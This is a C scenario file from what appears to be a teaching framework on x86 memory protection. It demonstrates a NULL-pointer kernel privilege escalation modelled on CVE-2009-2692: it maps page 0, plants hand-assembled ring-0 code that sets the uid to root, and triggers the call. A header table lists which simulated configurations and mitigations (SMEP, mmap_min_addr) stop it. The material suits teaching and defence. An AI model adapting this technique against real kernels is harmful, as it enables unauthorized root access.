/* ATTACK null_call: the kernel calls a function pointer that nobody has set, and we own page 0
 * SLIDE 19 The actual hardware support on x86
 * MECHANISM the kernel jumps to offset 0. In flat that is linear 0, where we have put code: it runs in
 *          ring 0 and makes our uid 0.
 * STOPPED a look at the pointer; SMEP; a lowest address for mmap() (Linux's mmap_min_addr). In split
 *          the kernel's offset 0 is its own guard page.
 * HISTORY CVE-2009-2692: sock_sendpage() of Linux 2.4 and 2.6 up to 2.6.30 called ops->sendpage
 *          unseen; repaired in 2.6.31 by "Make sock_sendpage() use kernel_sendpage()", commit
 *          e694958388c5.
 * VULNERABLE split/all oops #PF  offset 0 of the kernel's CS is a page of the kernel's, and absent
 * VULNERABLE flat/naive,fs,limit,walk,masked,tables kernel-hit  our code runs in ring 0
 * VULNERABLE flat/smap oops #PF if smep  SMEP: ring 0 runs no code of a user page
 * VULNERABLE fenced/naive,fs,limit,walk,masked,tables kernel-hit  the fence is for data: CS has 4 GB
 * VULNERABLE fenced/smap oops #PF if smep  SMEP: ring 0 runs no code of a user page
 * REPAIRED split,flat,fenced/all refused  nobody calls what nobody has set
 */
#include "lib/scenario.h"

/* To be run in ring 0: touches no memory but the uid, or SMAP would stop it and not SMEP. */
static struct {
	unsigned char mov[2];		/* mov dword [uid], root */
	unsigned int uid, root;
	unsigned char ret;
} __attribute__((packed)) payload = { .mov = { 0xC7, 0x05 }, .ret = 0xC3 };

int scenario(void)
{
	char *volatile page = NULL;

	payload.uid = ask(ASK_UID_OFFSET);
	require(mmap2(page, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED,
		      -1, 0) == page, "page 0 is ours");
	memcpy(page, &payload, sizeof(payload));
	demo(DEMO_CLAIM_NONE, 0, 0, 0);
	demo(DEMO_RESULT, attack(ATTACK_CALL, 0, 0), 0, 0);
	return 0;
}
